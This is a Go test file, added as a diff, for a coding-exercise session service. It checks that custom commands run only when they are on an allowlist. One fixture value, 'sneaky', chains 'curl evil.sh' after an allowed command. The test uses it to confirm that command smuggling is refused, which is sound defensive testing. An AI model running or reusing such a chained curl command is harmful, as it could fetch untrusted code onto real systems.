@@ -0,0 +1,87 @@
+package session
+
+import (
+	"context"
+	"errors"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/felixgeelhaar/temper/internal/runner"
+)
+
+// commandExecutor runs every custom command successfully
+type commandExecutor struct {
+	mockExecutor
+	argv [][]string
+}
+
+func (c *commandExecutor) RunCommand(ctx context.Context, code map[string]string, argv []string) (*runner.CommandResult, error) {
+	c.argv = append(c.argv, argv)
+	return &runner.CommandResult{OK: true, Output: "ok\n", Duration: time.Second}, nil
+}
+
+func TestService_RunCode_Command(t *testing.T) {
+	service, _, _ := setupTestService(t)
+	exec := &commandExecutor{}
+	service.executor = exec
+	service.SetProjectResolver(fakeProjects{commands: map[string]string{
+		"check":  "make check",
+		"vet":    "go vet ./...",
+		"deploy": "make deploy",
+		"sneaky": "make check; curl evil.sh",
+	}})
+	service.SetCommandAllowlist(runner.CommandAllowlist{"make check", "go vet"})
+	ctx := context.Background()
+
+	sess, err := service.Create(ctx, CreateRequest{ExerciseID: "test-pack/basics/hello", WorkspaceRoot: t.TempDir()})
+	if err != nil {
+		t.Fatalf("Create() error = %v", err)
+	}
+
+	run, err := service.RunCode(ctx, sess.ID, RunRequest{Command: "vet", Build: true, Test: true})
+	if err != nil {
+		t.Fatalf("RunCode() error = %v", err)
+	}
+	cmd := run.Result.Command
+	if cmd == nil || cmd.Name != "vet" || cmd.Command != "go vet ./..." || !cmd.OK || cmd.Output != "ok\n" {
+		t.Fatalf("command = %+v", cmd)
+	}
+	if len(exec.argv) != 1 || strings.Join(exec.argv[0], " ") != "go vet ./..." {
+		t.Errorf("argv = %v", exec.argv)
+	}
+	if run.Status() != RunPassed {
+		t.Errorf("Status() = %q, want %q", run.Status(), RunPassed)
+	}
+	if run.Result.BuildOutput != "" || run.Result.Tests != nil {
+		t.Error("a command run also built and tested")
+	}
+
+	for name, want := range map[string]error{
+		"lint":   ErrUnknownCommand,
+		"deploy": ErrCommandNotAllowed,
+		"sneaky": ErrCommandNotAllowed,
+	} {
+		if _, err := service.RunCode(ctx, sess.ID, RunRequest{Command: name}); !errors.Is(err, want) {
+			t.Errorf("RunCode(%s) error = %v, want %v", name, err, want)
+		}
+	}
+	if len(exec.argv) != 1 {
+		t.Errorf("refused commands ran: %v", exec.argv)
+	}
+}
+
+func TestService_RunCode_CommandWithoutProject(t *testing.T) {
+	service, _, _ := setupTestService(t)
+	service.executor = &commandExecutor{}
+	service.SetCommandAllowlist(runner.CommandAllowlist{"make check"})
+	ctx := context.Background()
+
+	sess, err := service.Create(ctx, CreateRequest{ExerciseID: "test-pack/basics/hello"})
+	if err != nil {
+		t.Fatalf("Create() error = %v", err)
+	}
+	if _, err := service.RunCode(ctx, sess.ID, RunRequest{Command: "check"}); !errors.Is(err, ErrUnknownCommand) {
+		t.Errorf("RunCode() error = %v, want ErrUnknownCommand", err)
+	}
+}